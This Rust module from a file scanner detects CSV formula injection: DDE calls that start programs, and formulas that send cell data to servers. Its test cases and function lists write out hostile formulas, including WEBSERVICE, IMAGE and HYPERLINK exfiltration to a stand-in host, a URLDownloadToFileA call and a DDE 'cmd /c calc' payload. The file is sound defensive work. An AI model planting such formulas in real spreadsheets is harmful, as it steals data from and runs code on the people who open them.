//! Tables as text: CSV and its kin, and whatever Excel is told to open as a table.
//!
//! Such a file is text until Excel opens it: a cell that starts a formula is computed. One shape of formula starts a
//! program (DDE, see `detections::dde_formula`), some functions send what other cells hold to a server. Sums, links,
//! phone numbers and notes are what honest tables are full of, and are nothing.
//!
//! Which mark parts the cells depends on the reader's settings, so all of them do here, quoted or not: a call must have
//! its whole shape anyway.

use super::xml::LONGEST;
use crate::detections::dde_formula::FORMULA;
use crate::error::{Error, LimitKind, Result};
use crate::finding::{Evidence, FindingKind, Level, Observation, cut};
use crate::languages::ActionKind;
use crate::languages::commands::urls;
use crate::languages::conversations::{command_of, dde_call};
use crate::scan::Scan;
use crate::source::Source;

/// A formula that asks a server, with what the table holds.
const REACHES_OUT: FindingKind = FindingKind::new("csv.formula", Level::Hold, Some("N3"));

/// Findings made here.
pub(super) const KINDS: &[&FindingKind] = &[&FORMULA, &REACHES_OUT];

/// Reported cells; more say nothing new.
const MOST: usize = 64;

/// Longest formula that Excel takes, in bytes: what of a cell is looked at.
const CELL: usize = 8192;

/// Longest table that is read to its end. Exports of business systems have tens of megabytes.
const TABLE: u64 = 128 << 20;

/// Reads a table piece by piece: each ends with a line.
pub(super) fn inspect(scan: &mut Scan, source: &Source) -> Result<()> {
    let mark: Vec<u8> = source.peek(0, 2)?;
    let wide = matches!(mark.as_slice(), [0xFF, 0xFE] | [0xFE, 0xFF]);
    let end = source.len().min(TABLE);
    let (mut at, mut lines, mut found) = (0_u64, 0_usize, 0_usize);
    while at < end && found < MOST {
        let (mut bytes, error) = scan.budget.read_source(source.slice(at, LONGEST));
        let read = bytes.len();
        if error.is_none() && at.saturating_add(read as u64) < source.len() {
            bytes.truncate(end_of_lines(&bytes, wide.then_some(&mark)));
        }
        at = at.saturating_add(bytes.len().max(1) as u64);
        if wide && lines > 0 {
            bytes.splice(0..0, mark.iter().copied());
        }
        let text = super::text::decode(&bytes).unwrap_or_else(|| String::from_utf8_lossy(&bytes).into_owned());
        drop(bytes);
        look(scan, &text, lines, &mut found)?;
        lines = lines.saturating_add(text.lines().count().max(1));
        if let Some(error) = error {
            return Err(error);
        }
    }
    if end < source.len() && found < MOST { Err(Error::Limit(LimitKind::ArtifactBytes)) } else { Ok(()) }
}

/// Where the last line that is whole ends; the end of the bytes where there is none.
fn end_of_lines(bytes: &[u8], mark: Option<&Vec<u8>>) -> usize {
    let end = match mark {
        None => bytes.iter().rposition(|byte| *byte == b'\n').map(|at| at.saturating_add(1)),
        Some(mark) => {
            let feed: [u8; 2] = if mark.first() == Some(&0xFF) { [b'\n', 0] } else { [0, b'\n'] };
            let pairs = bytes.as_chunks::<2>().0;
            pairs.iter().rposition(|pair| *pair == feed).map(|at| at.saturating_add(1).saturating_mul(2))
        }
    };
    end.unwrap_or(bytes.len())
}

/// Looks at the cells of some lines; `before` is how many lines stand before them.
fn look(scan: &mut Scan, text: &str, before: usize, found: &mut usize) -> Result<()> {
    scan.budget.steps(text.len() as u64)?;
    for (number, line) in text.lines().enumerate() {
        let number = number.saturating_add(before);
        let mut last_mark = line.rfind('|');
        let mut at = 0_usize;
        // Cells of one line, each with all that follows it: a quoted topic may hold the marks that part cells.
        while let Some(rest) = line.get(at..) {
            if *found >= MOST {
                return Ok(());
            }
            let cell = rest.trim_start_matches(|c: char| c == '"' || c == '\u{FEFF}' || c.is_whitespace() && c != '\t');
            if cell.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) {
                let quote = |kind, target: &str, excerpt: &str| {
                    let line = u32::try_from(number.saturating_add(1)).unwrap_or(u32::MAX);
                    Observation::new(kind, Evidence::quote(excerpt).line(line)).with("target", target)
                };
                let front = cut(cell, CELL);
                if last_mark.is_some_and(|mark| mark > at) {
                    scan.budget.steps((front.len() / 4) as u64)?;
                }
                if last_mark.is_some_and(|mark| mark > at) && front.contains('|') {
                    scan.budget.steps(front.len() as u64)?;
                    if let Some(call) = dde_call(front) {
                        scan.report(quote(&FORMULA, &call, line_front(cell)).acts(ActionKind::Run, command_of(&call)));
                        *found = found.saturating_add(1);
                        // One call tells enough about this line.
                        last_mark = None;
                    }
                }
                if cell.starts_with(['=', '+', '-', '@']) {
                    scan.budget.steps((end_of(front).len() / 4) as u64)?;
                    if let Some(target) = reaches_out(end_of(front)) {
                        scan.report(quote(&REACHES_OUT, &target, line_front(cell)));
                        *found = found.saturating_add(1);
                    }
                }
            }
            match rest.find([',', ';', '\t']) {
                Some(next) => at = at.saturating_add(next).saturating_add(1),
                None => break,
            }
        }
    }
    Ok(())
}

/// What a person is shown of it.
fn line_front(cell: &str) -> &str {
    cell.split('\t').next().unwrap_or_default()
}

/// A formula up to the end of its brackets: commas inside belong to it.
fn end_of(cell: &str) -> &str {
    let mut open = 0_usize;
    for (at, c) in cell.char_indices().take(2048) {
        match c {
            '(' => open = open.saturating_add(1),
            ')' => open = open.saturating_sub(1),
            ',' | ';' | '\t' if open == 0 => return cell.get(..at).unwrap_or_default(),
            _ => {}
        }
    }
    cut(cell, CELL)
}

/// Functions that fetch from a server when the table is opened.
const FETCH: [&str; 8] =
    ["webservice(", "importdata(", "importxml(", "importhtml(", "importfeed(", "importrange(", "image(", "rtd("];

/// Functions of old macros, and LibreOffice's way to other programs.
const CALL: [&str; 5] = ["call(", "register(", "exec(", "dde(", "register.id("];

/// Where a formula leads: it fetches, it refers to a share, or it builds a link out of other cells.
fn reaches_out(formula: &str) -> Option<String> {
    let lower: String = formula
        .chars()
        .filter(|c| !c.is_whitespace())
        .flat_map(char::to_lowercase)
        .collect::<String>()
        .replace("_xlfn.", "");
    let names = |name: &str| {
        lower.match_indices(name).any(|(at, _)| {
            !lower
                .get(..at)
                .and_then(|before| before.chars().next_back())
                .is_some_and(|c| c.is_alphanumeric() || c == '.' || c == '_')
        })
    };
    let address = urls(formula).next().map(str::to_owned);
    let fetches = FETCH.iter().any(|name| names(name))
        && (address.is_some() || lower.contains('&') || lower.contains("webservice("));
    let calls = CALL.iter().any(|name| names(name)) && lower.contains('"');
    // `='\\host\share\[book.xls]Sheet1'!A1`
    let refers = lower.contains("'\\\\") || lower.contains("='http");
    let builds = names("hyperlink(") && lower.contains("http") && joins_cells(&lower);
    (fetches || calls || refers || builds).then(|| address.unwrap_or_else(|| formula.chars().take(120).collect()))
}

/// Whether text is joined with the content of other cells.
fn joins_cells(lower: &str) -> bool {
    // Quotes inside a quoted cell are doubled.
    let plain = lower.replace("\"\"", "\"");
    let outside: String = plain.split('"').step_by(2).collect();
    (outside.contains('&') || outside.contains("concat")) && outside.chars().any(|c| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_that_reach_out() {
        for formula in [
            "=WEBSERVICE(\"http://a.example/?x=\"&A1)",
            "=_xlfn.WEBSERVICE(A1)",
            "=IMPORTXML(CONCAT(\"http://a.example/?v=\", A2:E2), \"//a\")",
            "=HYPERLINK(\"\"http://a.example/?x=\"\"&A1&A2,\"\"Error\"\")",
            "=IMAGE(\"https://a.example/\"&A1)",
            "='\\\\host.example\\share\\[a.xls]Sheet1'!A1",
            "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0)",
            "=DDE(\"cmd\";\"/c calc\";\"x\")",
        ] {
            assert!(reaches_out(formula).is_some(), "{formula}");
        }
    }

    #[test]
    fn pieces_end_with_a_line() {
        assert_eq!(end_of_lines(b"a\nb\nc", None), 4);
        assert_eq!(end_of_lines(b"abc", None), 3);
        assert_eq!(end_of_lines(b"a\0\n\0b\0", Some(&vec![0xFF, 0xFE])), 4);
        assert_eq!(end_of_lines(b"\0a\0\n\n\0", Some(&vec![0xFE, 0xFF])), 4);
    }

    #[test]
    fn formulas_of_every_day() {
        for formula in [
            "=A1+B1",
            "=SUM(A1:A3)",
            "=HYPERLINK(\"https://www.example/item/5\",\"item 5\")",
            "=HYPERLINK(\"https://www.example/a?b=1&c=2\")",
            "=IF(A1=\"x\",\"y\",CONCATENATE(A1,\" \",B1))",
            "=VLOOKUP(A1,Sheet2!A:B,2,FALSE)",
            "+81-3-0000-0000",
            "-5",
            "@handle",
            "=\"0123\"",
            "- see https://www.example/ & others",
            "=RECALL(1,\"a\")",
        ] {
            assert_eq!(reaches_out(formula), None, "{formula}");
        }
    }
}
